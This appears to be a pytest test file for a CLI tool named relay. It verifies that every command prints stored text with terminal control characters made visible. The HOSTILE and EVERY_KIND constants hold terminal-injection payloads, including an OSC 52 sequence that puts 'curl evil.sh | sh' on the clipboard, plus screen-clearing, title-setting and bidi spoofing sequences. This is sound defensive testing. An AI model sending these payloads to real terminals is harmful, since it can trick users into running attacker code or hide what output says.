"""Stored text never acts on the reader's terminal (issue 12): messages, memories, logged
hook calls and sessions are printed with their control characters visible; `--json`
stays exact."""

from __future__ import annotations

import json
import os
import re
import select
import shlex
import subprocess
import sys
import time
import tty
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from relay.protocol.display import json_visible, visible

RELAY = str(Path(sys.executable).parent / "relay")
OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # writes `curl evil.sh | sh` to the clipboard
DCS = "\x1bP+q544e\x1b\\"
HOSTILE = f"hello {OSC52}there {DCS}and \x9b2J\u202eevil"


def test_visible_shows_every_control_character_and_keeps_lines() -> None:
    assert visible(HOSTILE) == (
        "hello ^[]52;c;Y3VybCBldmlsLnNoIHwgc2g=^Gthere ^[P+q544e^[\\and <U+009B>2J<U+202E>evil"
    )
    assert visible("one\n\ttwo\r\x7f") == "one\n\ttwo^M^?"
    assert visible("plain — ünïcode ✓") == "plain — ünïcode ✓"


def test_visible_shows_c1_bidi_and_lone_surrogates_on_one_line() -> None:
    text = "a\x90dcs\x9c\x9d0;t\x9c\u2066\u2069\u200e\u200f\u061c\u2028b\udc9b\nc"
    assert visible(text, one_line=True) == (
        "a<U+0090>dcs<U+009C><U+009D>0;t<U+009C><U+2066><U+2069><U+200E><U+200F><U+061C>"
        "<U+2028>b<U+DC9B>^Jc"
    )


def test_json_visible_is_the_same_json_inert_on_a_terminal() -> None:
    value = {"name": f"ünï {HOSTILE}\x7f\U000e0001", "n": 1}
    text = json.dumps(value, ensure_ascii=False)
    shown = json_visible(text)
    assert json.loads(shown) == value
    assert all(unicodedata.category(char) not in ("Cc", "Cf") for char in shown)
    assert "ünï" in shown and "\\u009b" in shown and "\\udb40\\udc01" in shown


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    (root / ".git").mkdir(parents=True)
    return root


def _relay(project: Path, *args: str, cwd: bool = True, check: bool = True) -> str:
    done = subprocess.run(
        [RELAY, *args, *(("--cwd", str(project)) if cwd else ())],
        capture_output=True,
        text=True,
        env={**os.environ, "USER": "pat"},
        timeout=60,
        check=False,
    )
    assert done.returncode == 0 or not check, done.stderr
    return done.stdout


def test_messages_and_memories_are_shown_safely_and_exactly_in_json(
    project: Path, relay_home: Path
) -> None:
    from relay.services.messaging.mailbox import SqliteMailbox

    team = "safe"
    mailbox = SqliteMailbox()
    try:
        mailbox.register_agent("Bob", team=team, session_id="bob")
        mailbox.send(team=team, sender="Alice", recipient="Bob", body=HOSTILE)
    finally:
        mailbox.close()
    _relay(project, "memory", "save", HOSTILE)
    shown = {
        "inbox": _relay(project, "inbox", "Bob", "--team", team),
        "messages": _relay(project, "messages", "--team", team),
        "memory list": _relay(project, "memory", "list"),
        "memory search": _relay(project, "memory", "search", "hello"),
    }
    for command, text in shown.items():
        assert not any(ord(c) < 0x20 and c not in "\n\t" for c in text), command
        assert "\x9b" not in text and "\u202e" not in text, command
        assert "^[]52;c;Y3VybCBldmlsLnNoIHwgc2g=^G" in text, command
    [delivery] = json.loads(_relay(project, "inbox", "Bob", "--team", team, "--json"))
    assert delivery["message"]["body"] == HOSTILE
    [memory] = json.loads(_relay(project, "memory", "list", "--json"))
    assert memory["content"] == HOSTILE


def test_a_hooks_error_is_shown_safely_by_hooks_log_and_hooks_test(
    project: Path, relay_home: Path
) -> None:
    """A hook's stderr (foreign text) in an error: `relay hooks log` and `relay hooks test`
    show it visibly."""
    program = f"import sys; sys.stderr.write({HOSTILE!r}); sys.exit(1)"
    hook = {"command": sys.executable, "args": ["-c", program], "name": "noisy"}
    (relay_home / "settings.json").write_text(
        json.dumps({"hooks": {"BeforeTool": [{"hooks": [hook]}]}})
    )
    event = json.dumps({"tool_name": "Bash", "tool_input": {"command": "ls"}})
    ran = subprocess.run(
        [RELAY, "hooks", "run", "BeforeTool", "--cwd", str(project)],
        input=event,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert "noisy" in ran.stdout, ran.stderr
    for args in (("hooks", "log"), ("hooks", "test", "BeforeTool")):
        # `hooks test` exits 1: the hook failed.
        text = _relay(project, *args, check=args[1] == "log")
        assert "^[]52;c;" in text, args
        assert "\x1b]52" not in text and "\x9b" not in text, args


# -- every command, on a hostile repository (issue 29) -------------------------------------

EVERY_KIND = (
    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: writes `curl evil.sh | sh` to the clipboard
    "\x1b]0;owned\x1b\\"  # OSC 0: the window title, ended by ST
    "\x1bP+q544e\x1b\\"  # DCS
    "\x1b_apc\x1b\\\x1b^pm\x1b\\\x1bXsos\x1b\\"  # APC, PM, SOS
    "\x1b[2J\x1b[8m\x1b[1A"  # CSI: clear the screen, hide what follows, go a line up
    "\x9b2J\x9d0;c1\x9c\x90c1dcs\x9c\x85"  # the same in C1 (8-bit) form, and NEL
    "\u202ecba\u202c\u2066\u2069\u200e\u200f\u061c\u2028\x7f"  # bidi, line separator, DEL
)
"""Every kind of sequence or character that acts on a terminal or hides what a line says."""
THREAD = "t\x1b_apc\x1b\\\x9b2J\u202e"  # a thread id: no whitespace, no ']'
RELAY_SGR = re.compile(r"\x1b\[(?:0|1|2|4|22|24|39|3[0-7]|9[0-7])m")
"""relay's own colours (click.style), the only escape sequences it may print."""


class Hostile(NamedTuple):
    """A repository, a relay home and a host home full of hostile text."""

    root: Path
    project: Path
    env: dict[str, str]
    values: dict[str, str]


def _hook(kind: str) -> dict[str, Any]:
    """A hook whose name, description and command hold EVERY_KIND, and whose answer and
    stderr do too."""
    answer = {"decision": "deny", "reason": EVERY_KIND, "systemMessage": EVERY_KIND}
    program = f"import sys; sys.stderr.write({EVERY_KIND!r}); print({json.dumps(answer)!r})"
    return {
        "command": f"{shlex.quote(sys.executable)} -c {shlex.quote(program)} # {kind}{EVERY_KIND}",
        "name": f"{kind}{EVERY_KIND}",
        "description": EVERY_KIND,
    }


def _settings(kind: str) -> dict[str, Any]:
    group = {"matcher": "Bash|" + re.escape(EVERY_KIND), "hooks": [_hook(kind)]}
    return {
        "hooks": {
            "BeforeTool": [group],
            "SessionStart": [{"hooks": [_hook(kind)]}],
            "PreToolUse": [{"matcher": EVERY_KIND.replace("[", "").replace("\\", ""), "hooks": []}],
        },
        "patterns": {"deploy": _hook(kind)},
        "hooksConfig": {"disabled": [EVERY_KIND]},
        f"unknown{EVERY_KIND}": True,
    }


RUN_KEYS = ("RELAY_CACHE", "RELAY_TEST_RUN", "RELAY_TEST_RUN_FOLDER")
"""The test run's own keys (conftest.py): its build cache, and the marks that find a
process it left behind."""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    """Hostile settings (user, project, the host's own), messages, memories, a hook log, an
    agent and a live session: everything a command can print."""
    root = tmp_path_factory.mktemp("hostile")
    project = root / "project"
    home, relay_home = root / "home", root / "relay-home"
    for folder in (project / ".git", project / ".relay", project / ".claude", home, relay_home):
        folder.mkdir(parents=True)
    (relay_home / "settings.json").write_text(json.dumps(_settings("user")))
    (project / ".relay" / "settings.json").write_text(json.dumps(_settings("project")))
    claude_hooks = {"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [_hook("claude")]}]}}
    (project / ".claude" / "settings.json").write_text(json.dumps(claude_hooks))
    (home / ".claude").mkdir()
    (home / ".claude" / "settings.json").write_text(json.dumps(claude_hooks))
    # A server named `relay` that is not relay's: install leaves it, and says so.
    servers = {"mcpServers": {"relay": {"command": f"evil{EVERY_KIND}", "args": [EVERY_KIND]}}}
    (home / ".claude.json").write_text(json.dumps(servers))
    # The run's own RELAY_ keys stay: its build cache (without it each test compiled
    # relay's MiniLM engine again, 7 CPU-s, into the fresh HOME) and its marks.
    env = {
        key: value
        for key, value in os.environ.items()
        if key in RUN_KEYS
        or (not key.startswith(("RELAY_", "CLAUDE_", "CODEX_", "GEMINI_")) and key != "NO_COLOR")
    }
    env.update(
        HOME=str(home),
        USER="pat",
        RELAY_HOME=str(relay_home),
        RELAY_SYSTEM_SETTINGS=str(root / "no-system-settings.json"),
        TERM="xterm-256color",
    )
    (root / "no-system-settings.json").write_text(json.dumps({"messaging": {"team": "safe"}}))

    def relay(*args: str, stdin: str = "") -> str:
        done = subprocess.run(
            [RELAY, *args],
            input=stdin,
            capture_output=True,
            text=True,
            cwd=project,
            env=env,
            timeout=120,
            check=False,
        )
        return done.stdout

    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("RELAY_HOME", str(relay_home))
        patch.setenv("RELAY_SYSTEM_SETTINGS", env["RELAY_SYSTEM_SETTINGS"])
        from relay.services.messaging.mailbox import SqliteMailbox

        mailbox = SqliteMailbox()
        try:
            mailbox.register_agent("Bob", team="safe", session_id="bob", cwd=EVERY_KIND)
        finally:
            mailbox.close()
        from relay.fleet.board import SqliteBoard
        from relay.fleet.model import AgentStatus

        board, now = SqliteBoard(), "2026-01-01T00:00:00.000Z"
        try:  # a status whose texts are hostile (any process of the user can write the board)
            board.publish_now(
                AgentStatus(
                    **dict(team="safe", name="Bob", state="working", since=now, heartbeat=now),
                    **dict(machine=EVERY_KIND, tool=EVERY_KIND, last_line=EVERY_KIND, ttl=1e12),
                )
            )
        finally:
            board.close()
    relay("send", "--as", "Carol", "--thread", THREAD, "Bob", EVERY_KIND)
    relay("memory", "save", f"{EVERY_KIND} hello #tag")
    event = {"tool_name": "Bash", "tool_input": {"command": EVERY_KIND}}
    relay("hooks", "run", "BeforeTool", stdin=json.dumps(event))
    [logged, *_] = json.loads(relay("hooks", "log", "--json"))
    [memory] = json.loads(relay("memory", "list", "--json"))
    (root / "memories.jsonl").write_text(relay("memory", "export"))
    (root / "event.json").write_text(json.dumps(event))
    session = subprocess.Popen(
        [
            RELAY,
            "run",
            "--headless",
            "--name",
            "Sleeper",
            "--",
            "sh",
            "-c",
            f"sleep 600 # {EVERY_KIND}",
        ],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        cwd=project,
        env=env,
    )
    try:
        deadline = time.monotonic() + 60
        while "Sleeper" not in relay("sessions"):
            assert session.poll() is None and time.monotonic() < deadline, "no session"
            time.sleep(0.1)
        yield Hostile(
            root,
            project,
            env,
            {"event_id": str(logged["id"]), "memory_id": memory["id"], "root": str(root)},
        )
    finally:
        session.terminate()
        session.wait(timeout=60)
        relay("serve", "--stop")


PROTOCOL = "protocol"
"""Stdout is read by a program (a host, an MCP client), not a person: it is left out."""

INVOCATIONS: dict[str, list[list[str]]] = {
    "agents": [[], ["--prune", "--older-than", "999d"]],
    "agents forget": [["Carol"]],
    "dashboard": [["--no-open", "--host", EVERY_KIND]],
    "doctor": [["--no-measure"]],
    "hooks disable": [[f"project{EVERY_KIND}"], ["--force", "nothing"]],
    "hooks enable": [[f"project{EVERY_KIND}"]],
    "hooks import": [["--from", "claude"], ["--from", "claude", "--write"]],
    "hooks list": [[]],
    "hooks log": [[], ["--failed"], ["--all"]],
    "hooks replay": [["{event_id}"]],
    "hooks run": [[PROTOCOL, "BeforeTool"], [PROTOCOL, "PreToolUse", "--dialect", "claude"]],
    "hooks schema": [[], ["BeforeTool"]],
    "hooks test": [
        ["BeforeTool", "--tool", "Bash", "--input", "{root}/event.json"],
        ["PatternMatch", "--set", "namespace=deploy", "--set", f"message={EVERY_KIND}"],
    ],
    "hooks validate": [[], [".relay/settings.json", ".claude/settings.json"]],
    "hooks wait-mail": [[PROTOCOL]],
    "inbox": [["Bob"], ["Bob", "--all"]],
    "install": [["claude"], ["gemini", "--dry-run"]],
    "mcp": [[PROTOCOL]],
    "memory export": [["-o", "{root}/again.jsonl"]],
    "memory forget": [["{memory_id}"], [EVERY_KIND]],
    "memory import": [["{root}/memories.jsonl"]],
    "memory list": [[]],
    "memory save": [[EVERY_KIND]],
    "memory search": [["hello"], ["hello", "--explain"], [EVERY_KIND]],
    "memory sync": [[]],
    "messages": [[], ["--thread", THREAD]],
    "run": [["--headless", "--name", "Walker", "--", "true"]],
    "send": [["--as", "Carol", "Bob", EVERY_KIND], ["--as", "Sleeper", "Bob", "hi"]],
    "serve": [["--status"]],
    "sessions": [[]],
    "stop": [["Nobody"]],
    "trust": [[], ["--all-files"], ["--yes"], ["--revoke"]],
    "uninstall": [["claude"]],
    "watch": [["--once"]],
}
"""The arguments each command is run with (its last entries change the most). A command
added to relay and not named here is run with no arguments."""
SHOWN_IN = {"agents", "doctor", "hooks list", "hooks log", "inbox", "messages", "trust"}
"""Commands whose output must hold the hostile text, made visible (so the walk cannot pass
by printing nothing)."""


def _command_paths() -> list[str]:
    """Every command of `relay`, walked from the click tree ("hooks list", "agents", …)."""
    import click

    from relay.cli.main import cli

    paths: list[str] = []

    def walk(command: click.Command, path: list[str], context: click.Context) -> None:
        if not isinstance(command, click.Group) or command.invoke_without_command:
            paths.append(" ".join(path))
        if isinstance(command, click.Group):
            for name in command.list_commands(context):
                sub = command.get_command(context, name)
                assert sub is not None, name
                walk(sub, [*path, name], click.Context(sub, parent=context, info_name=name))

    walk(cli, [], click.Context(cli, info_name="relay"))
    return [path for path in paths if path]


COMMANDS = _command_paths()


def test_the_walk_names_only_commands_that_exist() -> None:
    assert set(INVOCATIONS) <= set(COMMANDS), set(INVOCATIONS) - set(COMMANDS)


def _on_a_terminal(args: list[str], hostile: Hostile, *, protocol: bool = False) -> str:
    """What `relay ARGS` shows on a terminal (stdout and stderr on one PTY in raw mode, so
    nothing is stripped or translated on the way), run in the hostile project. `protocol`:
    stdout is a program's (it reads the logged event on stdin): only stderr is shown."""
    master, slave = os.openpty()
    tty.setraw(slave)
    try:
        process = subprocess.Popen(
            [RELAY, *args],
            stdin=subprocess.DEVNULL if not protocol else subprocess.PIPE,
            stdout=subprocess.DEVNULL if protocol else slave,
            stderr=slave,
            cwd=hostile.project,
            env=hostile.env,
            start_new_session=True,
        )
    finally:
        os.close(slave)
    if process.stdin is not None:
        process.stdin.write(hostile.root.joinpath("event.json").read_bytes())
        process.stdin.close()
    output = bytearray()
    deadline = time.monotonic() + 120
    try:
        while time.monotonic() < deadline:
            ready, _, _ = select.select([master], [], [], 0.2)
            if ready:
                try:
                    data = os.read(master, 1 << 16)
                except OSError:  # EIO: every writer has closed the terminal
                    break
                if not data:
                    break
                output += data
            elif process.poll() is not None:
                break  # gone, and nothing left to read (a server it started may hold the PTY)
        else:
            raise AssertionError(f"relay {args} did not end: {bytes(output)!r}")
        process.wait(timeout=60)
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
        os.close(master)
    return output.decode("utf-8", "replace")


def _raw_controls(text: str) -> list[str]:
    """What in `text` would act on a terminal: control and format characters, and escape
    sequences other than relay's own colours."""
    text = RELAY_SGR.sub("", text)
    return sorted(
        {
            f"U+{ord(char):04X}"
            for char in text
            if char not in "\t\n\r" and unicodedata.category(char) in ("Cc", "Cf", "Zl", "Zp")
        }
    )


@pytest.mark.parametrize("command", COMMANDS)
def test_every_command_shows_a_hostile_repository_safely(command: str, hostile: Hostile) -> None:
    """Issue 29: settings, hooks, host files, messages, memories, agents and sessions full of
    OSC 52, OSC 0, DCS, APC, PM, SOS, CSI, C1 and bidi controls: no command lets one reach
    the terminal raw (outside --json, and stdouts that a program reads)."""
    for args in INVOCATIONS.get(command, [[]]):
        protocol = args[:1] == [PROTOCOL]
        words = [arg.format(**hostile.values) for arg in args[1 if protocol else 0 :]]
        argv = [*command.split(), *words]
        shown = _on_a_terminal(argv, hostile, protocol=protocol)
        assert not _raw_controls(shown), (argv, _raw_controls(shown), shown)
        if command in SHOWN_IN and args == INVOCATIONS[command][0]:
            assert "^[]52;c;Y3VybCBldmlsLnNoIHwgc2g=^G" in shown, (argv, shown)
